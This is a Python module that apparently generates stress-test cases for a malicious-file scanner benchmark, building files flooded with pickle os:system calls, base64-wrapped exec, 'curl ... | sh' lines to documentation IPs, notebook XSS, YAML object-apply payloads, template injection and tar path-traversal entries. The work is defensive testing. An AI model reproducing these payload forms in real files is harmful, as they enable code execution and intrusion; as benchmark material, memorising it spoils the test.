"""Floods of different things: thousands of distinct calls, names, commands, addresses, members in one small file.

What repeats can be told once; here nothing repeats, so whoever reads must either be quick or say where it stopped.
"""

from __future__ import annotations

import base64
import io
import json
import marshal
import struct
import tarfile
from collections.abc import Callable, Iterator

from benchmarks.corpus.malicious.asm import POP, REDUCE, STOP, TUPLE1, C, Encoder, bin_unicode, global_, proto, short_bytes
from benchmarks.corpus.malicious.asm import Call as PickleCall
from benchmarks.corpus.malicious.cases import Case
from benchmarks.corpus.malicious.containers.zips import plain
from benchmarks.corpus.malicious.hosts import EVIL
from benchmarks.corpus.malicious.payloads import COMMAND

P4 = proto(4)
_CALL = Encoder(4, memo=False).encode(C("os:system", COMMAND))


def flood(count: int, unit: Callable[[int], bytes]) -> bytes:
    """Join what *unit* makes of each number."""
    return b"".join(unit(number) for number in range(count))


def address(number: int) -> str:
    """A URL of a documentation address (RFC 5737) with a path of its own."""
    return f"http://198.51.100.{number % 250 + 1}/p{number}"


def _coded(number: int) -> bytes:
    code = compile(f"import os\nos.system('echo {number}')\n", f"m{number}", "exec")
    return marshal.dumps(code)


def _one(call: PickleCall) -> bytes:
    return Encoder(4, memo=False).encode(call) + POP


def _pickles() -> Iterator[Case]:
    def reduced(module: str, name: str, argument: bytes) -> bytes:
        return global_(module, name) + argument + TUPLE1 + REDUCE + POP

    nested = [Encoder(4).dumps(C("os:system", f"echo {number}")) for number in range(4_000)]
    bodies: dict[str, bytes] = {
        "unknown-calls": flood(50_000, lambda n: reduced(f"m{n}", "f", bin_unicode(f"a{n}"))),
        "unknown-methods": flood(50_000, lambda n: reduced("m", f"f{n}.g.h", bin_unicode(f"a{n}"))),
        "commands": flood(40_000, lambda n: reduced("os", "system", bin_unicode(f"echo {n}"))),
        "addresses-called": flood(20_000, lambda n: reduced("os", "system", bin_unicode(f"curl {address(n)} | sh"))),
        "addresses-held": flood(40_000, lambda n: bin_unicode(address(n)) + POP),
        "addresses-listed": b"](" + flood(40_000, lambda n: bin_unicode(address(n))) + b"e0",
        "dangerous-names": flood(
            50_000, lambda n: global_(("os", "subprocess", "posix", "shutil", "socket")[n % 5], f"x{n}") + POP
        ),
        "persistent-ids": flood(60_000, lambda n: bin_unicode(f"id {n}") + b"Q0"),
        "builds": flood(40_000, lambda n: global_("m", f"C{n}") + b")\x81}" + bin_unicode(f"k{n}") + b"Nsb0"),
        "builds-overwriting": flood(40_000, lambda n: global_("os", f"x{n}") + b"}" + bin_unicode(f"k{n}") + b"Nsb0"),
        "nested-streams": b"".join(reduced("pickle", "loads", short_bytes(data)) for data in nested),
        "nested-code": flood(3_000, lambda n: reduced("marshal", "loads", short_bytes(_coded(n)))),
        "executed": flood(20_000, lambda n: reduced("builtins", "exec", bin_unicode(f"import os; os.system('echo {n}')"))),
        "executed-base64": flood(
            8_000,
            lambda n: _one(C("builtins:exec", C("base64:b64decode", base64.b64encode(b"import os; os.system('echo %d')" % n)))),
        ),
        "imported-by-name": flood(40_000, lambda n: reduced("importlib", "import_module", bin_unicode(f"m{n}"))),
        "getattr": flood(20_000, lambda n: _one(C("builtins:getattr", C("builtins:__import__", f"m{n}"), f"a{n}"))),
        "opened": flood(40_000, lambda n: reduced("builtins", "open", bin_unicode(f"/tmp/toadstone-inert-{n}"))),
        "encoded-strings": flood(
            20_000, lambda n: bin_unicode(base64.b64encode(f"curl {address(n)} | sh".encode()).decode()) + POP
        ),
        "extension-codes": flood(60_000, lambda n: b"\x84" + struct.pack("<I", n + 1) + POP),
        "instances": flood(40_000, lambda n: b"(" + bin_unicode(f"a{n}") + b"im%d\nC\n0" % n),
        "reviewed-calls": flood(30_000, lambda n: reduced("numpy", "dtype", bin_unicode(f"f{n}"))),
        "ordered-dicts": flood(30_000, lambda n: global_("collections", "OrderedDict") + b")R" + bin_unicode(f"k{n}") + b"Ns0"),
        "partials": flood(20_000, lambda n: _one(C("functools:partial", C("operator:attrgetter", f"a{n}.b")))),
    }
    for name, body in bodies.items():
        yield Case(f"flood-pickle-{name}.pkl", P4 + body + _CALL + STOP, f"flood-pickle-{name}")
    streams = flood(12_000, lambda n: Encoder(4).dumps(C("os:system", f"echo {n}")))
    yield Case("flood-pickle-streams.pkl", streams, "flood-pickle-streams")
    arrays = flood(5_000, lambda n: b"\x93NUMPY" + bytes(40) + Encoder(4).dumps(C("os:system", f"echo {n}")))
    yield Case("flood-pickle-gaps.pkl", P4 + b"N." + arrays, "flood-pickle-gaps")


_SOURCES: dict[str, tuple[int, Callable[[int], str]]] = {
    "imports-called": (20_000, lambda n: f"import m{n}\nm{n}.f({n})\n"),
    "commands": (30_000, lambda n: f"import os\nos.system('echo {n}')\n"),
    "addresses": (40_000, lambda n: f"x{n} = '{address(n)}'\n"),
    "addresses-fetched": (15_000, lambda n: f"urllib.request.urlopen('{address(n)}')\n"),
    "executed": (15_000, lambda n: f"exec('import os; os.system(\"echo {n}\")')\n"),
    "executed-base64": (
        6_000,
        lambda n: "exec(base64.b64decode('" + base64.b64encode(b"import os; os.system('echo %d')" % n).decode() + "'))\n",
    ),
    "functions": (12_000, lambda n: f"def f{n}(a):\n    import os\n    os.system('echo {n}' + a)\nf{n}('x')\n"),
    "classes": (8_000, lambda n: f"class C{n}:\n    def __init__(self):\n        os.system('echo {n}')\nC{n}()\n"),
    "decorated": (20_000, lambda n: f"@m.d{n}('a')\ndef f{n}(): ...\n"),
    "strings-encoded": (15_000, lambda n: f"x{n} = '{base64.b64encode(f'curl {address(n)}'.encode()).decode()}'\n"),
    "attributes": (20_000, lambda n: f"os.a{n}.b{n} = subprocess.c{n}\n"),
    "getattr": (20_000, lambda n: f"getattr(os, 'sys' + 'tem')('echo {n}')\n"),
    "chr-joined": (3_000, lambda n: "exec(''.join(chr(c) for c in [" + ", ".join(str(ord(c)) for c in f"f({n})") + "]))\n"),
    "opened": (20_000, lambda n: f"open('/tmp/toadstone-inert-{n}', 'w').write('{n}')\n"),
    "lambdas": (15_000, lambda n: f"x{n} = lambda a: os.system('echo {n}' + a)\n"),
    "f-strings": (20_000, lambda n: f"os.system(f'echo {{a{n}}} {n}')\n"),
    "dictionaries": (20_000, lambda n: f"x = {{'a{n}': os.f{n}, 'b': [1, {n}]}}\n"),
    "attribute-calls": (20_000, lambda n: f"a{n}.b{n}(c{n}, d={n}).e{n}('x{n}')\n"),
}


def _python() -> Iterator[Case]:
    for name, (count, unit) in _SOURCES.items():
        text = "".join(unit(number) for number in range(count))
        yield Case(f"flood-source-{name}.py", f"{text}\nimport os\nos.system('{COMMAND}')\n".encode(), f"flood-python-{name}")
    lines = "".join(f"import m{n}; m{n}.f('echo {n}')\n" for n in range(15_000))
    yield Case("flood-startup-lines.pth", lines.encode(), "flood-python-startup")
    broken = "".join(f"os.system('echo {n}'\n" for n in range(30_000))
    yield Case("flood-source-broken.py", broken.encode(), "flood-python-broken")
    setup = "".join(f"os.system('echo {n}')\n" for n in range(15_000))
    yield Case("flood-setup/setup.py", f"import os\n{setup}".encode(), "flood-python-setup")
    requirements = "".join(f"--extra-index-url {address(n)}\np{n} @ git+{address(n)}\n" for n in range(15_000))
    yield Case("flood-requirements/requirements.txt", requirements.encode(), "flood-requirements")
    cells = {
        "commands": lambda n: {"cell_type": "code", "source": f"!curl {address(n)} | sh", "outputs": []},
        "code": lambda n: {"cell_type": "code", "source": f"import os\nos.system('echo {n}')", "outputs": []},
        "outputs": lambda n: {
            "cell_type": "code",
            "source": f"{n}",
            "outputs": [{"output_type": "display_data", "data": {"text/html": f"<script src='{address(n)}'></script>"}}],
        },
        "markdown": lambda n: {"cell_type": "markdown", "source": f"[a]({address(n)}) <img src=x onerror=f({n})>"},
        "attachments": lambda n: {
            "cell_type": "markdown",
            "source": "x",
            "attachments": {f"a{n}.svg": {"image/svg+xml": "PHN2Zz4="}},
        },
    }
    for name, cell in cells.items():
        book = {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [cell(number) for number in range(10_000)]}
        yield Case(f"flood-notebook-{name}.ipynb", json.dumps(book).encode(), f"flood-notebook-{name}")


def tarred(entries: Iterator[tuple[tarfile.TarInfo, bytes]]) -> bytes:
    """A tar of these entries."""
    memory = io.BytesIO()
    with tarfile.open(fileobj=memory, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        for info, data in entries:
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return memory.getvalue()


def _linked(kind: bytes) -> Iterator[tuple[tarfile.TarInfo, bytes]]:
    for number in range(12_000):
        info = tarfile.TarInfo(f"l{number}")
        info.type, info.linkname = kind, f"../../../etc/x{number}"
        yield info, b""


def _archives() -> Iterator[Case]:
    members: dict[str, tuple[int, Callable[[int], tuple[str, bytes]]]] = {
        "commands": (4_000, lambda n: (f"m{n}.pkl", Encoder(4).dumps(C("os:system", f"echo {n}")))),
        "sources": (3_000, lambda n: (f"m{n}.py", f"import os\nos.system('echo {n}')\n".encode())),
        "texts": (5_000, lambda n: (f"m{n}.txt", f"see {address(n)}\n".encode())),
        "configurations": (3_000, lambda n: (f"m{n}/config.json", json.dumps({"auto_map": {"A": f"x{n}--m.C"}}).encode())),
        "templates": (2_000, lambda n: (f"m{n}/chat_template.jinja", f"{{{{ cycler.__init__.__globals__.x{n} }}}}".encode())),
        "notebooks": (
            2_000,
            lambda n: (
                f"m{n}.ipynb",
                json.dumps(
                    {
                        "nbformat": 4,
                        "nbformat_minor": 5,
                        "metadata": {},
                        "cells": [{"cell_type": "code", "source": f"!echo {n}", "outputs": []}],
                    }
                ).encode(),
            ),
        ),
        "traversals": (20_000, lambda n: (f"../../../tmp/x{n}", b"x")),
        "collisions": (20_000, lambda n: (f"{'Aa'[n % 2]}b{n // 2}.txt", b"x")),
        "arrays": (
            4_000,
            lambda n: (
                f"m{n}.npy",
                b"\x93NUMPY\1\0v\0"
                + b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(117)
                + b"\n"
                + Encoder(4).dumps(C("os:system", f"echo {n}")),
            ),
        ),
        "unknown": (10_000, lambda n: (f"m{n}.bin", b"\xfe\xdc%06d" % n)),
        "yamls": (3_000, lambda n: (f"m{n}.yaml", f"a: !!python/object/apply:os.system ['echo {n}']\n".encode())),
        "zips": (2_000, lambda n: (f"m{n}.zip", plain([(f"x{n}.pkl", Encoder(4).dumps(C("os:system", f"echo {n}")))]))),
        "libraries": (
            6_000,
            lambda n: (f"m{n}.txt", b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHIQQQ", 3, 62, 1, n, 64, 0) + bytes(24)),
        ),
        "eggs": (4_000, lambda n: (f"m{n}.pyc", b"\xa7\r\r\n" + bytes(12) + _coded(n))),
    }
    for name, (count, member) in members.items():
        listed = [member(number) for number in range(count)]
        yield Case(f"flood-zip-{name}.zip", plain([*listed, ("z.pkl", EVIL)]), f"flood-zip-{name}")
    for name in ("commands", "sources"):
        count, member = members[name]
        files = ((tarfile.TarInfo(path), data) for path, data in map(member, range(count)))
        yield Case(f"flood-tar-{name}.tar", tarred(files), f"flood-tar-{name}")
    for name, kind in {"symlinks": tarfile.SYMTYPE, "hardlinks": tarfile.LNKTYPE, "devices": tarfile.CHRTYPE}.items():
        yield Case(f"flood-tar-{name}.tar", tarred(_linked(kind)), f"flood-tar-{name}")


def cases() -> Iterator[Case]:
    """All of them."""
    yield from _pickles()
    yield from _python()
    yield from _archives()
